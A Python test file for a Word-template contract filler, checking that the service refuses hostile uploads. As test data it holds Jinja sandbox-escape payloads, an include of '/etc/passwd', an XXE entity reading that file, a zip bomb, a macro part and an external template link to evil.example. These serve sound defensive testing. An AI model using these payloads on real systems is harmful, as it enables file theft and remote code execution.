"""The owner's own .docx: asked, tried, filled; a hostile one is refused within limits (K-11)."""

from __future__ import annotations

import io
import subprocess
import sys
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from docx import Document

from models.values.template_flaw import TemplateFlaw
from services.documents import docx_templates
from services.documents.sample_order import sample
from services.documents.template_variables import variables

KNOWN = variables({"kitchen_type": "Тип кухни", "wishes": "Пожелания"})
FIELDS = {"kitchen_type": "угловая", "wishes": "тихие часы"}
DATA = sample(FIELDS)
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"


def written(*paragraphs: str, header: str = "") -> bytes:
    """A .docx of these paragraphs."""
    document = Document()
    for one in paragraphs:
        document.add_paragraph(one)
    if header:
        document.sections[0].header.paragraphs[0].text = header
    return saved(document)


def saved(document: Any) -> bytes:
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def read(filled: bytes) -> list[str]:
    """The paragraphs, and those of the tables."""
    document = Document(io.BytesIO(filled))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return [one.text for one in document.paragraphs] + cells


def repacked(template: bytes, change: Callable[[str, bytes], bytes], **more: bytes) -> bytes:
    """The same archive with other parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(template)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, change(name, old.read(name)))
        for name, body in more.items():
            new.writestr(name, body)
    return out.getvalue()


async def refused(template: bytes) -> docx_templates.TemplateRefused:
    checked = await docx_templates.check(template, KNOWN, DATA)
    assert checked.problem is not None
    assert not checked.can_use
    assert "{" not in str(checked.problem).replace("{{ }}", "").replace("{% %}", "")
    return checked.problem


async def test_a_template_is_checked_and_filled_k_11() -> None:
    template = written(
        "Договор № {{ paper.number }} от {{ paper.date }}",
        "{{ client.name }}, {{ client.called }} «Заказчик»: {{ fields.kitchen_type }}",
        "{% for line in lines %}{{ line.name }} — {{ line.sum }}; {% endfor %}",
        "{% if client.inn %}ИНН {{ client.inn }}{% endif %}{{ money.total_contract }}",
        header="{{ company.short_name }}",
    )
    checked = await docx_templates.check(template, KNOWN, DATA)
    assert checked.can_use, checked
    assert {"paper.number", "client.called", "lines.sum", "fields.kitchen_type", "company.short_name"} <= set(
        checked.variables
    )
    filled = await docx_templates.fill(template, DATA)
    text = "\n".join(read(filled)).replace("\u00a0", " ")
    assert "Договор № Д-2026-17 от 22 ноября 2026 г." in text
    assert "Смирнова Анна Сергеевна, именуемая «Заказчик»: угловая" in text
    assert "Монтаж — 5 000,00; " in text
    assert "150 000 (сто пятьдесят тысяч) рублей" in text
    assert "ООО «Кухни Верстак»" in Document(io.BytesIO(filled)).sections[0].header.paragraphs[0].text


async def test_rows_of_a_table_are_repeated() -> None:
    document = Document()
    table = document.add_table(rows=3, cols=2)
    table.cell(0, 0).text = "{%tr for one in lines %}"
    table.cell(1, 0).text, table.cell(1, 1).text = "{{ one.n }}. {{ one.name }}", "{{ one.qty }} {{ one.unit }}"
    table.cell(2, 0).text = "{%tr endfor %}"
    template = saved(document)
    assert (await docx_templates.check(template, KNOWN, DATA)).can_use
    assert "4. Монтаж" in read(await docx_templates.fill(template, DATA))


async def test_unknown_names_come_with_the_nearest_known_one_k_11() -> None:
    template = written(
        "{{ client.nmae }} {{ klient.phone }} {{ fields.kitchen_tipe }} {{ сумма_договора }} {{ zzzqqq }}",
        "{% for one in lines %}{{ one.nmae }}{{ one.price }}{% endfor %}{% set own = 1 %}{{ own }}",
    )
    checked = await docx_templates.check(template, KNOWN, DATA)
    assert not checked.can_use
    assert {one.name: one.nearest for one in checked.unknown} == {
        "client.nmae": "client.name",
        "klient.phone": "client.phone",
        "fields.kitchen_tipe": "fields.kitchen_type",
        "сумма_договора": "money.total",
        "zzzqqq": "",
        "lines.nmae": "lines.name",
    }


@pytest.mark.parametrize(
    "hostile",
    [
        "{{ 7*7 }}",
        "{% for x in range(9) %}x{% endfor %}",
        "</w:t></w:r></w:p><w:p><w:r><w:t>чужой абзац",
        "Рога & Копыта <b>ООО</b> \"кавычки\" 'апостроф'",
        "]]> <!-- &amp; &#1040;",
        "=1+1",
    ],
)
async def test_what_a_client_wrote_stays_plain_text(hostile: str) -> None:
    template = written("до {{ client.name }} после", "последний")
    filled = await docx_templates.fill(template, {**DATA, "client": {**DATA["client"], "name": hostile}})
    assert read(filled) == [f"до {hostile} после", "последний"]


async def test_lines_of_a_value_stay_lines_and_odd_signs_go() -> None:
    value = "ул. Мира\nкв. 5\a\f\x00\ud83d конец"
    filled = await docx_templates.fill(written("{{ client.address }}"), {**DATA, "client": {"address": value}})
    assert read(filled) == ["ул. Мира\nкв. 5 конец"]


async def test_an_empty_value_is_a_line_for_the_hand() -> None:
    values = {**DATA, "client": {**DATA["client"], "inn": ""}, "fields": {}}
    filled = await docx_templates.fill(written("ИНН {{ client.inn }}|{{ fields.gone }}|{{ gone.away }}"), values)
    assert read(filled) == ["ИНН ____________|____________|____________"]


async def test_the_payment_code_is_a_picture_in_the_document() -> None:
    filled = await docx_templates.fill(written("Оплата: {{ qr }}"), DATA)
    assert len(Document(io.BytesIO(filled)).inline_shapes) == 1


@pytest.mark.parametrize(
    ("template", "code"),
    [
        ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "docx.forbidden"),
        ("{{ client.__init__.__globals__ }}", "docx.forbidden"),
        ("{{ qr._document.save('/tmp/x') }}", "docx.forbidden"),
        ("{{ client.__class__ }}", "docx.forbidden"),
        ("{{ lines.append(1) }}", "docx.forbidden"),
        ("{% for x in range(10**9) %}{{ x }}{% endfor %}", "docx.loop"),
        ("{{ client.name|safe }}", "docx.syntax"),
        ("{% autoescape false %}{{ client.name }}{% endautoescape %}", "docx.syntax"),
        ("{% include '/etc/passwd' %}", "docx.broken"),
        ("{% if client.inn %}без конца", "docx.syntax"),
        ("{{ client.name", "docx.syntax"),
        ("{{ 1/0 }}", "docx.broken"),
        ("{{ 'x' * 10**9 }}", "docx.memory"),
    ],
)
async def test_a_hostile_or_broken_template_is_refused_with_a_reason(template: str, code: str) -> None:
    assert (await refused(written(template))).code == code


@pytest.mark.parametrize(
    "endless",
    [
        "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}",
        "{{ (10**10)**(10**7) > 1 }}",
    ],
)
async def test_a_template_without_end_is_stopped(endless: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(docx_templates, "CPU_SECONDS", 2)
    assert (await refused(written(endless))).code == "docx.slow"


async def test_a_template_that_sleeps_is_stopped_by_the_clock(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(docx_templates, "PATIENCE", 0.01)
    assert (await refused(written("{{ client.name }}"))).code == "docx.slow"


async def test_what_eats_memory_is_stopped(monkeypatch: pytest.MonkeyPatch) -> None:
    template = "{% for a in range(90000) %}{{ 'много ' * 100000 }}{% endfor %}"
    assert (await refused(written(template))).code in {"docx.memory", "docx.slow"}


async def test_files_that_are_no_documents_are_refused() -> None:
    good = written("{{ client.name }}")
    empty = io.BytesIO()
    zipfile.ZipFile(empty, "w").close()
    assert (await refused(b"")).code == "docx.no_docx"
    assert (await refused(b"%PDF-1.7 ...")).code == "docx.no_docx"
    assert (await refused(empty.getvalue())).code == "docx.no_docx"
    assert (await refused(good[: len(good) // 2])).code == "docx.no_docx"
    assert (await refused(b"\xd0\xcf\x11\xe0" + b"0" * 100)).code == "docx.old"
    assert (await refused(b"PK" + b"0" * docx_templates.LARGEST)).code == "docx.big"
    torn = repacked(good, lambda name, body: body[:-30] if name == "word/document.xml" else body)
    assert (await refused(torn)).code == "docx.broken"


async def test_programs_bombs_and_strangers_inside_are_refused() -> None:
    good = written("{{ client.name }}")
    macro = repacked(good, lambda _name, body: body, **{"word/vbaProject.bin": b"x"})
    assert [one.kind for one in (await refused(macro)).flaws] == ["macro"]
    bomb = repacked(good, lambda _name, body: body, **{"word/media/zeros.bin": bytes(61 * 1024 * 1024)})
    assert len(bomb) < 1024 * 1024
    assert (await refused(bomb)).code == "docx.bomb"
    crowd = repacked(good, lambda _name, body: body, **{f"word/media/{n}.bin": b"" for n in range(2001)})
    assert (await refused(crowd)).code == "docx.bomb"
    entities = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    laughs = repacked(good, lambda name, body: entities + body if name == "word/document.xml" else body)
    told = await refused(laughs)
    assert told.code == "docx.unsafe" and told.flaws == (TemplateFlaw("doctype", "word/document.xml", "x"),)
    link = (
        f'<Relationships xmlns="{RELATIONS}"><Relationship Id="a" Type="http://x/oleObject" '
        "TargetMode='External'  Target='https://evil.example/t.dotm'/></Relationships>"
    )
    outside = repacked(good, lambda _name, body: body, **{"word/_rels/settings.xml.rels": link.encode()})
    told = await refused(outside)
    assert told.flaws == (TemplateFlaw("object", "word/settings.xml", "https://evil.example/t.dotm"),)


def test_the_worker_lives_under_its_limits() -> None:
    """Set before anything foreign is read: seconds of CPU, memory, no file and no dump of its own."""
    asked = "resource.getrlimit(resource.RLIMIT_{})[0]"
    names = ("CPU", "AS", "FSIZE", "CORE")
    program = (
        "import resource; from services.documents.docx_worker.__main__ import _limit;"
        f"_limit({{'cpu_seconds': 7, 'memory': 1 << 30}}); print({', '.join(asked.format(name) for name in names)})"
    )
    said = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=True)
    assert said.stdout.split() == ["7", str(1 << 30), "0", "0"]
